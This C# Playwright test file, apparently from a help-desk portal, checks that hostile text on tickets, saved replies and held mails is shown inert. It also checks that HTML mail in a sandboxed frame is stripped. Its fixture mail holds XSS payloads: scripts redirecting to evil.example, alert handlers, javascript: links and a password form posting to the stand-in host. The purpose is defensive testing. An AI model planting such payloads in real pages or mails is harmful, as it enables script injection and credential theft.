using System.Text;
using HelpDesk.Attachments;
using HelpDesk.Portal.Tests.Infrastructure;
using HelpDesk.Tickets;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Playwright;

namespace HelpDesk.Portal.Tests.Agent;

/// <summary>Whatever somebody writes is text to agents too: on a ticket and in its history, in a queue, as a saved reply, in a held mail; and the HTML of a mail stays in its frame.</summary>
public sealed class InertTextTests(PortalHost host) : AgentTest(host)
{
    [Theory]
    [MemberData(nameof(HostileTexts.All), MemberType = typeof(HostileTexts))]
    public async Task Markup_on_a_ticket_is_shown_as_it_was_written(string text)
    {
        var ann = await VisitAsync("ann");
        var page = ann.Page;
        await RenameAsync("bob", text);
        await RenameAsync("ben", text);
        var number = await OpenWithFileAsync(text);
        await ChangeAsync(number, change => change with { Subject = text, Category = text, AssigneeId = change.Actor.Id });
        await ReplyAsync("ben", number, text, isNote: true);
        var saved = await ann.Context.APIRequest.PostAsync("/helpdesk/saved-replies", new() { DataObject = new { title = text, body = text, shared = false } });
        Assert.True(saved.Ok);

        await ann.OpenAsync($"/agent/t/{number}");
        await Expect(page.Locator("h1")).ToHaveTextAsync(text);
        await Expect(page).ToHaveTitleAsync(new System.Text.RegularExpressions.Regex(number));
        await Expect(page.Locator(".hd-body")).ToHaveTextAsync([text, text]);
        await Expect(page.Locator("a.hd-file")).ToHaveCountAsync(1);
        var category = page.Locator(".hd-picker").Filter(new() { Has = page.Locator(".hd-label:text-is('Category')") }).Locator(".hd-picker-button");
        await Expect(category).ToContainTextAsync(text);
        await category.ClickAsync();
        await Expect(page.GetByRole(AriaRole.Menuitemradio).Filter(new() { HasText = text })).Not.ToHaveCountAsync(0);
        await page.ExpectInertAsync();
        await page.Keyboard.PressAsync("Escape");

        await page.GetByRole(AriaRole.Tab, new() { Name = "History" }).ClickAsync();
        await Expect(page.Locator(".hd-history")).ToContainTextAsync($"Plain → {text}");
        await page.ExpectInertAsync();
        await page.GetByRole(AriaRole.Tab, new() { Name = "Requester" }).ClickAsync();
        await Expect(page.Locator(".hd-facts dd").First).ToHaveTextAsync(text);

        await page.GetByRole(AriaRole.Button, new() { Name = "Reply", Exact = true }).ClickAsync();
        // In a sentence it turns nothing around it.
        await Expect(page.Locator(".hd-box-audience")).ToHaveTextAsync(new System.Text.RegularExpressions.Regex($"^To: \u2068?{System.Text.RegularExpressions.Regex.Escape(text.Replace("\u202E", "", StringComparison.Ordinal).Replace("\u202C", "", StringComparison.Ordinal))}\u2069?$"));
        await page.GetByRole(AriaRole.Combobox, new() { Name = "Saved replies" }).FillAsync(text);
        // Others may contain it.
        var option = page.GetByRole(AriaRole.Option).Filter(new() { Has = page.GetByText(text, new() { Exact = true }).And(page.Locator("bdi")) });
        await Expect(option).ToContainTextAsync(text);
        await page.ExpectInertAsync();
        await option.ClickAsync();
        await Expect(page.Locator("#composer-text")).ToHaveValueAsync(text);
        await page.ExpectInertAsync();

        await page.GotoAsync($"/support/agent/all?category={Uri.EscapeDataString(text)}");
        await Expect(Row(page, number).Locator("a")).ToHaveTextAsync(text);
        await Expect(Row(page, number).Locator("bdi").First).ToHaveTextAsync(text);
        await Row(page, number).HoverAsync();
        await page.ExpectInertAsync();
        await ann.OpenAsync("/settings");
        await Expect(page.GetByRole(AriaRole.Listitem).Filter(new() { HasText = text })).Not.ToHaveCountAsync(0);
        await page.ExpectInertAsync();
    }

    [Fact]
    public async Task Markup_in_a_held_mail_is_shown_as_it_was_written()
    {
        var texts = HostileTexts.All.Select(row => row.Data).ToList();
        foreach (var text in texts)
            await MailAsync(Encoded(text), text, $"{Encoded(text)} <carol@elsewhere.example>");
        var ann = await VisitAsync("ann");
        await ann.OpenAsync("/agent/held");
        var mails = ann.Page.Locator("[data-mail]");
        await Expect(mails).ToHaveCountAsync(texts.Count);
        foreach (var text in texts)
            await Expect(mails.Locator(".hd-body").GetByText(text, new() { Exact = true })).ToHaveCountAsync(1);
        var subjects = await mails.Locator(".hd-held-subject bdi").AllTextContentsAsync();
        Assert.Empty(texts.Where(text => !text.Contains('\u202E', StringComparison.Ordinal)).Except(subjects));
        await ann.Page.ExpectInertAsync();
        await mails.First.GetByRole(AriaRole.Button, new() { Name = "Reject" }).ClickAsync();
        await ann.Page.GetByRole(AriaRole.Alertdialog).WaitForAsync();
        await ann.Page.ExpectInertAsync();
    }

    [Fact]
    public async Task The_html_of_a_mail_does_nothing_in_its_frame_and_stays_in_it()
    {
        var html = $$"""
            <!doctype html><html><head><title>Taken over</title>
            <base href="//evil.example/"><meta http-equiv="refresh" content="0;url=http://evil.example/"><link rel="stylesheet" href="http://evil.example/a.css">
            <style>@import url(http://evil.example/b.css); body { background: url(http://evil.example/c.png) }</style>
            <script>parent.hit = 1; top.location = 'http://evil.example/'</script><script src="http://evil.example/d.js"></script></head>
            <body onload="alert(1)" background="http://evil.example/e.png">
            <p id="kept" onclick="alert(1)" style="background:url(http://evil.example/f.png);position:fixed;inset:0">What it says</p>
            <form action="http://evil.example/"><input autofocus onfocus="alert(1)" name="password"><button>Send</button></form>
            <a href="javascript:alert(1)" target="_top">press</a> <a href="http://good.example/" target="_top" ping="http://evil.example/g">a link</a>
            <img src="http://evil.example/h.png" srcset="http://evil.example/i.png 2x" onerror="alert(1)"><svg onload="alert(1)"><image href="http://evil.example/j.png"/></svg>
            <iframe src="http://evil.example/k"></iframe><object data="http://evil.example/l"></object><embed src="http://evil.example/m"><video poster="http://evil.example/n" autoplay src="http://evil.example/o"></video>
            <p>The end</p>
            {{string.Join('\n', HostileTexts.All.Select(row => $"<div>{row.Data}</div>"))}}
            </body></html>
            """;
        await MailAsync("Looks nice", Multipart("What it says", html), contentType: "multipart/alternative; boundary=\"b\"");
        var ann = await VisitAsync("ann");
        var page = ann.Page;
        await ann.OpenAsync("/agent/held");
        var mail = page.Locator("[data-mail]").Filter(new() { HasText = "Looks nice" });
        await mail.GetByRole(AriaRole.Button, new() { Name = "New ticket" }).ClickAsync();
        await mail.GetByRole(AriaRole.Link, new() { NameRegex = new("^TKT") }).ClickAsync();
        await Expect(page.Locator(".hd-body")).ToHaveTextAsync("What it says");
        await page.ExpectInertAsync();

        var address = page.Url;
        await page.GetByRole(AriaRole.Button, new() { Name = "Show original mail" }).ClickAsync();
        await Expect(page.Locator("iframe.hd-mail")).ToHaveAttributeAsync("sandbox", "");
        var frame = page.FrameLocator("iframe.hd-mail");
        await Expect(frame.GetByText("What it says")).ToBeVisibleAsync();
        await Expect(frame.GetByText("The end")).ToBeVisibleAsync();
        await Expect(frame.Locator("script, style:not(head > style), link, base, form, input, button, svg, iframe, object, embed, video, math, details, [srcset], [ping], [poster], [background], [style]")).ToHaveCountAsync(0);
        await Expect(frame.GetByRole(AriaRole.Link, new() { Name = "a link" })).ToHaveAttributeAsync("href", "http://good.example/");
        Assert.Equal("", await frame.Locator("html").EvaluateAsync<string>(
            """
            html => [...html.querySelectorAll('*')].filter(element => [...element.attributes].some(attribute =>
                attribute.name.startsWith('on') || /javascript:|data:text/i.test(attribute.value) || (element.localName !== 'a' && /^(https?:)?\/\//i.test(attribute.value)))).map(element => element.outerHTML).join('\n')
            """));
        await page.ExpectInertAsync();
        Assert.Equal(address, page.Url);
        Assert.Equal(2, page.Frames.Count);
    }

    private static string Encoded(string text) => $"=?utf-8?B?{Convert.ToBase64String(Encoding.UTF8.GetBytes(text))}?=";

    private static string Multipart(string text, string html) =>
        $"--b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n{text}\r\n--b\r\nContent-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        + $"{Convert.ToBase64String(Encoding.UTF8.GetBytes(html), Base64FormattingOptions.InsertLineBreaks)}\r\n--b--\r\n";

    private async Task<string> OpenWithFileAsync(string text)
    {
        var bob = Actor.User(await Host.IdOfAsync("bob"));
        await using var scope = Host.Services.CreateAsyncScope();
        using var content = new MemoryStream("text"u8.ToArray());
        var file = await scope.ServiceProvider.GetRequiredService<IAttachmentUploads>().StageAsync(new StageUpload { Actor = bob, FileName = text, Content = content }, CancellationToken);
        var opened = await Host.DoAsync(tickets => tickets.OpenAsync(new OpenTicket { Actor = bob, Subject = "Plain", Body = text, Attachments = [file.Id] }, CancellationToken));
        return ((RequesterConversation)opened).Ticket.Number;
    }
}
